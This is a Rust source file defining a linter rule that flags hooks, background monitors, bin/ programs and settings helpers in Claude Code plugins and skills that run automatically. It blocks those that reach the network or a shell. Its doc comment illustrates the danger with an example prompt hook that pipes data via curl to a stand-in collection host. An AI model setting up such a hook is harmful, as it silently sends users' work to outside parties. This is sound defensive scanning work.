use flywheel_messages::{Message, message};

use super::automatic::automatic;
use super::reaches_out::{Reach, reach};
use super::tool_rules::settings;
use crate::audit::rule::declare_rule;
use crate::audit::{Check, FileKind, FileView, Level, Observation, Scope, UnitKind, UnitView};
use crate::bundle::{extension, file_name};
use crate::plugin::json::{Node, texts_of};
use crate::plugin::{Hook, HookKind, Located};
use crate::text::Span;

declare_rule! {
    /// ## What it checks
    /// Everything in a skill or a plugin that runs by itself, without Claude or a person deciding
    /// to: hooks, in a plugin, in the header of a skill or an agent and in settings; programs in the
    /// background (`monitors`); programs in `bin/`, which Claude calls by their names; what editors,
    /// containers, git and installers start: tasks at the opening of a folder, commands of a
    /// development container, hooks of git, `.envrc`, steps of an installation.
    ///
    /// ## Why it matters
    /// It runs on the computer of everyone who installs the plugin, each time, and no review by
    /// claude.ai looks at it. One that reaches the network, or hands text to a shell, can send
    /// away what people work on: it stops the sharing.
    ///
    /// ## Example
    /// A hook at each prompt that runs `curl -d @- https://collect.example`.
    ///
    /// ## How to fix
    /// Have somebody who programs read it, and record what it does. Take out what reaches the
    /// network; a connector does the same with everybody's knowledge.
    ///
    /// Source: policy of the scan of anthropics/knowledge-work-plugins (hooks of broad scope,
    /// undisclosed telemetry); claude.com/docs, pre-submission checklist (the hosted scan does not
    /// cover hooks); OWASP Agentic Skills AST01; November 2026.
    NO_SHIPPED_HOOKS {
        code: "EXEC-004",
        name: "no_shipped_hooks",
        group: Running,
        level: Review,
        since: "0.2.0",
        summary: "Something runs by itself on everybody's computer",
        scope: Scope::Everywhere,
        check: Check::Unit(check),
    }
}

fn check(view: &UnitView<'_, '_>, out: &mut Vec<Observation>) {
    if view.is_plugin() || view.unit.kind == UnitKind::Marketplace {
        for (file, hook) in &view.parts().hooks {
            out.extend(of_hook(view, file, hook));
        }
        out.extend(view.files.iter().flat_map(|file| background(view, file)));
    }
    for file in view.files.iter().copied() {
        out.extend(in_settings(view, file));
        out.extend(in_header(view, file));
        out.extend(automatic(file).into_iter().map(|started| {
            // To fetch packages is what most of these are for.
            let reach = reach_of(view, &started.command).filter(|reach| *reach == Reach::Shell);
            observe(file, started.span, started.title, reach)
        }));
    }
}

/// The words for when something runs, and for what it does.
fn observe(file: &FileView<'_>, span: Span, title: Message, reach: Option<Reach>) -> Observation {
    let seen = Observation::at(file.path(), span, title);
    match reach {
        Some(Reach::Network) => seen.level(Level::Block).because(message!(
            "It reaches other computers from everybody's own, where it can send away what people \
             work on. Take it out, or use a connector."
        )),
        Some(Reach::Shell) => seen.level(Level::Block).because(message!(
            "It hands text to a shell that runs whatever stands in it. Take it out, or write down \
             the commands themselves."
        )),
        None => seen.because(message!(
            "It runs on the computer of everyone who installs this, and nobody is asked. Have \
             somebody who programs read it."
        )),
    }
}

fn of_hook(view: &UnitView<'_, '_>, file: &FileView<'_>, hook: &Hook) -> Option<Observation> {
    let event = hook.event.value.as_str();
    let command = hook
        .command
        .as_ref()
        .map_or("", |command| command.value.as_str());
    let (title, reach) = match &hook.kind {
        HookKind::Command => {
            let args = hook.args.iter().map(|arg| arg.value.as_str());
            let line: Vec<&str> = std::iter::once(command).chain(args).collect();
            (
                message!("A program runs by itself at {event}"),
                reach_of(view, &line.join(" ")),
            )
        }
        HookKind::Http => {
            let reach = (!is_own(command)).then_some(Reach::Network);
            (
                message!("A web address is called by itself at {event}"),
                reach,
            )
        }
        HookKind::Prompt | HookKind::Agent => (
            message!("Claude is told something at {event} that nobody sees"),
            None,
        ),
        HookKind::McpTool => (
            message!("A connector's tool is used by itself at {event}"),
            None,
        ),
        HookKind::Other(_) => return None,
    };
    Some(observe(file, hook.span, title, reach))
}

fn is_own(url: &str) -> bool {
    ["localhost", "127.0.0.1", "[::1]"].iter().any(|own| {
        url.split("://")
            .nth(1)
            .is_some_and(|rest| rest.starts_with(own))
    })
}

/// How far a command reaches, and the scripts of the unit that it names.
fn reach_of(view: &UnitView<'_, '_>, command: &str) -> Option<Reach> {
    let named = view.all_files.iter().filter(|file| {
        let name = file_name(file.path());
        let is_program = file.kind == FileKind::Script || file.file.executable;
        is_program && command.contains(name)
    });
    let scripts = named.filter_map(|file| reach(file.text_or_empty()));
    reach(command).into_iter().chain(scripts).max()
}

/// Programs in the background, and those that Claude calls by their names.
fn background(view: &UnitView<'_, '_>, file: &FileView<'_>) -> Vec<Observation> {
    let path = view.unit.relative(file.path());
    if path.starts_with("bin/") {
        let name = file_name(path);
        let title = message!("Claude can call the program “{name}” by its name");
        return vec![observe(
            file,
            Span::at(0),
            title,
            reach(file.text_or_empty()),
        )];
    }
    if !path.starts_with("monitors/") || extension(path) != "json" {
        return Vec::new();
    }
    let commands: Vec<Located<String>> = file
        .json()
        .root
        .as_ref()
        .map(|root| texts_of(root, "command"))
        .unwrap_or_default();
    let said = commands.into_iter().map(|command| {
        let title = message!("A program runs in the background from the start");
        observe(file, command.span, title, reach_of(view, &command.value))
    });
    said.collect()
}

/// Hooks and other programs in settings of Claude Code that lie in the bundle.
fn in_settings(view: &UnitView<'_, '_>, file: &FileView<'_>) -> Vec<Observation> {
    const PROGRAMS: [&str; 4] = [
        "apiKeyHelper",
        "awsAuthRefresh",
        "awsCredentialExport",
        "otelHeadersHelper",
    ];
    let Some(root) = settings(file) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for event in root.get("hooks").map(Node::entries).unwrap_or_default() {
        let name = event.key.value.as_str();
        for command in texts_of(&event.value, "command") {
            let title = message!("A program runs by itself at {name}");
            out.push(observe(
                file,
                command.span,
                title,
                reach_of(view, &command.value),
            ));
        }
        for url in texts_of(&event.value, "url") {
            let title = message!("A web address is called by itself at {name}");
            out.push(observe(
                file,
                url.span,
                title,
                (!is_own(&url.value)).then_some(Reach::Network),
            ));
        }
    }
    let helpers = PROGRAMS.iter().filter_map(|key| root.get(key)?.as_text());
    let lines = ["statusLine", "subagentStatusLine"]
        .iter()
        .filter_map(|key| root.get(key)?.get("command")?.as_text());
    for command in helpers.chain(lines) {
        let title = message!("These settings start a program by themselves");
        out.push(observe(
            file,
            command.span,
            title,
            reach_of(view, &command.value),
        ));
    }
    out
}

/// Hooks in the header of a skill, a command or an agent.
fn in_header(view: &UnitView<'_, '_>, file: &FileView<'_>) -> Option<Observation> {
    let is_part =
        file.is_skill_file() || matches!(file.unit.kind, UnitKind::Command | UnitKind::Agent);
    if !is_part || file.kind != FileKind::Markdown {
        return None;
    }
    let field = file.document().field("hooks")?;
    let written = &file.text_or_empty()[field.value_span.range()];
    if written.trim().is_empty() || written.trim() == "{}" {
        return None;
    }
    let title = message!("Something runs by itself while this is in use");
    Some(observe(
        file,
        field.key_span,
        title,
        reach_of(view, written),
    ))
}
